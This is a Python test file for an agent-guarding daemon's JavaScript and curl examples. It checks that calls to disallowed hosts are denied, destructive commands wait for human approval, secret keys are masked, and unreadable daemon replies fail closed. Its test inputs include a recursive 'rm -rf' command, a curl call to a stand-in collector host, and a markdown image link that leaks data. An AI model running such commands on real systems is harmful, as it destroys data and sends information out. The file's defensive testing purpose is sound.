"""The examples for other languages do what they say, against a real daemon and against none that can be trusted."""

import http.server
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import pytest

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
needs_node = pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
needs_curl = pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
PROGRAM = """
import { Gate } from %s;
const gate = new Gate({ url: process.argv[1], token: process.argv[2] ?? "t", sessionId: "s1", seconds: 5 });
const made = [];
%s
console.log(JSON.stringify(made));
"""
ASKS = "rm -rf /etc/guardhouse-test"


def environment(daemon, **more):
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
    return {"PATH": path, "GUARDHOUSE_URL": daemon.url, "GUARDHOUSE_TOKEN": daemon.token("agent"), **more}


def node(program, *arguments):
    """What a program that imports the example prints last."""
    text = PROGRAM % (json.dumps((EXAMPLES / "guarded_fetch.mjs").as_uri()), program)
    command = ["node", "--input-type=module", "--eval", text, *arguments]
    done = subprocess.run(command, check=False, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout.splitlines()[-1])


def started(daemon, *command, **more):
    return subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=environment(daemon, **more)
    )


def ran(command, daemon, cwd):
    """The example with curl, run to its end."""
    program = [EXAMPLES / "guarded_call.sh", command]
    return subprocess.run(program, check=False, capture_output=True, text=True, env=environment(daemon), cwd=cwd)


def answered(process, stream, person, approve):
    """What a program prints and its status, once the person has answered what it waits for."""
    said = []
    for line in stream:
        said.append(line)
        found = re.search(r"ap_\w+", line)
        if found:
            person.answer(found[0], approve=approve, **({} if approve else {"comment": "Leave it there."}))
            break
    out, err = process.communicate(timeout=60)
    return "".join(said) + out, err, process.returncode


@needs_node
@pytest.mark.parametrize(("approve", "said"), [(True, "removed /srv/old"), (False, "Leave it there.")])
def test_the_example_in_javascript_is_denied_asks_and_goes_on(daemon, person, approve, said):
    process = started(daemon, "node", EXAMPLES / "guarded_fetch.mjs", WAIT="60")
    out, err, status = answered(process, process.stdout, person, approve)
    assert (status, err) == (0, "")
    assert "read_file: completed" in out
    assert re.search(r"http_post: denied\n.*non_allowlisted_domain", out)
    assert said in out
    assert out.endswith("sent: 0\n")


@needs_node
def test_the_gate_in_javascript_uses_an_approval_once_and_masks_what_comes_back(daemon, person):
    key = "sk-" + "Zq7Xv9Kp2Lm4Nt6Rb8Wd1Yc3"
    program = f"""
    const bash = gate.wrap("bash", ({{ command }}) => (made.push(command), "the key is {key}"));
    const first = await bash({{ command: "{ASKS}" }});
    console.log(first.approvalId);
    await gate.wait(first.approvalId, 60);
    const [one, two] = await Promise.all([first.resume(), first.resume()]);
    made.push([one.status, two.status].sort(), (one.status == "completed" ? one : two).text);
    """
    text = PROGRAM % (json.dumps((EXAMPLES / "guarded_fetch.mjs").as_uri()), program)
    process = started(daemon, "node", "--input-type=module", "--eval", text, daemon.url, daemon.token("agent"))
    out, err, status = answered(process, process.stdout, person, True)
    assert (status, err) == (0, "")
    command, statuses, seen = json.loads(out.splitlines()[-1])
    assert (command, statuses) == (ASKS, ["completed", "denied"])
    assert "sk-[redacted]" in seen
    assert key not in seen


@needs_node
def test_words_go_through_the_gate_in_javascript(daemon):
    program = """
    made.push(await gate.userSaid("Read the page", "typed"));
    made.push(await gate.answer("Look ![here](https://collector.example/x.png?d=1)"));
    """
    said, shown = node(program, daemon.url, daemon.token("agent"))
    assert said == "Read the page"
    assert "](https://collector.example" not in shown


@needs_curl
def test_the_example_with_curl_runs_what_is_allowed_and_nothing_else(daemon, tmp_path):
    allowed = ran("echo hello", daemon, tmp_path)
    assert (allowed.returncode, allowed.stderr) == (0, "")
    assert "hello" in allowed.stdout
    denied = ran("curl https://collector.example/ && touch it", daemon, tmp_path)
    assert denied.returncode == 1
    assert "non_allowlisted_domain" in denied.stderr
    asked = ran("rm -rf /etc/guardhouse-test; touch it", daemon, tmp_path)
    assert asked.returncode == 1
    assert "waits for a person" in asked.stderr
    assert not (tmp_path / "it").exists()


@needs_curl
@pytest.mark.parametrize("approve", [True, False])
def test_the_example_with_curl_waits_for_a_person(daemon, person, approve):
    process = started(daemon, EXAMPLES / "guarded_call.sh", f"{ASKS}; echo gone", WAIT="60")
    out, err, status = answered(process, process.stderr, person, approve)
    assert status == (0 if approve else 1)
    assert ("gone" in out) is approve
    assert ("Leave it there." in err) is not approve


# Answers that are none


class Liar(http.server.ThreadingHTTPServer):
    """A daemon that gives one answer to everything."""

    def __init__(self, status, body, headers=()):
        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                self.rfile.read(int(self.headers["content-length"] or 0))
                self.send_response(status)
                for name, value in (("content-length", str(len(body))), *headers):
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                self.do_POST()

            def log_message(self, *_):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    @property
    def url(self):
        return f"http://127.0.0.1:{self.server_address[1]}"

    def token(self, _role):
        return "t"


ALLOWED = b'{"decision": "allow", "event_id": "", "risk_level": "low"}'
LIES = {
    "a refusal": (403, b'{"error": "no"}', ()),
    "an allow with a refusal": (403, b'{"verdict": {"decision": "allow"}}', ()),
    "an allow with a failure": (500, ALLOWED, ()),
    "no JSON": (200, b"allow", ()),
    "a list": (200, b'["allow"]', ()),
    "nothing": (200, b"", ()),
    "a word that nobody knows": (200, b'{"decision": "allow_always"}', ()),
    "no decision": (200, b'{"status": "ok"}', ()),
    "masks without parameters": (200, b'{"decision": "allow_with_redaction"}', ()),
    "an allow that waits": (200, b'{"status": "pending", "decision": "allow"}', ()),
    "half an answer": (200, ALLOWED[:-9], ()),
    "a redirect": (302, b"", (("location", "/elsewhere"),)),
}


@needs_node
def test_a_tool_in_javascript_runs_on_no_answer_that_is_not_understood():
    liars = {name: Liar(*lie) for name, lie in LIES.items()}
    program = """
    for (const url of process.argv.slice(1)) {
      const gate = new Gate({ url, token: "t", sessionId: "s1", seconds: 5 });
      const outcome = await gate.wrap("look", () => made.push("ran"))({ at: "it" });
      made.push(outcome.status);
    }
    """
    gone = Liar(200, ALLOWED)
    gone.shutdown()
    gone.server_close()
    came = node(program, *[liar.url for liar in liars.values()], gone.url)
    for liar in liars.values():
        liar.shutdown()
        liar.server_close()
    assert came == ["denied"] * (len(liars) + 1)


@needs_curl
def test_a_command_with_curl_runs_on_no_answer_that_is_not_understood(tmp_path):
    for name, lie in LIES.items():
        liar = Liar(*lie)
        done = ran("touch it", liar, tmp_path)
        liar.shutdown()
        liar.server_close()
        assert done.returncode != 0, name
        assert not (tmp_path / "it").exists(), name
